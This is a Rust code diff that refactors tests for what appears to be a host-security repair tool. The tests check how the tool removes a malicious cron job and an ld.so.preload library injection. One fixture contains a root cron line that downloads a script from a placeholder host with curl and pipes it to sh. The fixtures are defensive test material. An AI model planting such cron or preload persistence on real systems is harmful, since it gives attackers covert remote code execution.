@@ -202,7 +202,6 @@ impl Action for Params {
 mod tests {
     use super::*;
     use crate::host::Host;
-    use crate::i18n::Lang;
     use crate::report::{Finding, Severity};
 
     fn finding(subject: &str, evidence: &str) -> Finding {
@@ -232,13 +231,7 @@ mod tests {
         let dir = root(&[("/etc/cron.d/pwn", cron)]);
         let host = Host::new(dir.path());
         let f = finding("/etc/cron.d/pwn", "/etc/cron.d/pwn:2: */5 * * * * root curl -s http://x/a.sh | sh");
-        let t = Target {
-            host: &host,
-            lang: Lang::En,
-            check: "sec.persistence.cron",
-            finding: &f,
-            told: crate::repair::Told::none(),
-        };
+        let t = Target::test(&host, "sec.persistence.cron", &f);
         let c = Params {}.plan(&t).unwrap();
         let after = String::from_utf8(c.files[0].after.clone().unwrap()).unwrap();
         assert_eq!(
@@ -267,13 +260,7 @@ mod tests {
             root(&[("/etc/ld.so.preload", "/usr/local/lib/libx.so\n/lib/a.so:/usr/local/lib/libx.so /lib/b.so\n")]);
         let host = Host::new(dir.path());
         let f = finding("/usr/local/lib/libx.so", "/etc/ld.so.preload:1: /usr/local/lib/libx.so");
-        let t = Target {
-            host: &host,
-            lang: Lang::En,
-            check: "sec.persistence.preload",
-            finding: &f,
-            told: crate::repair::Told::none(),
-        };
+        let t = Target::test(&host, "sec.persistence.preload", &f);
         let c = Params {}.plan(&t).unwrap();
         assert_eq!(c.files[0].after.as_deref(), Some(&b"/lib/a.so /lib/b.so\n"[..]));
         assert_eq!(c.files[1].path, "/var/lib/ecs-doctor/quarantine/usr-local-lib-libx.so/ld.so.preload");
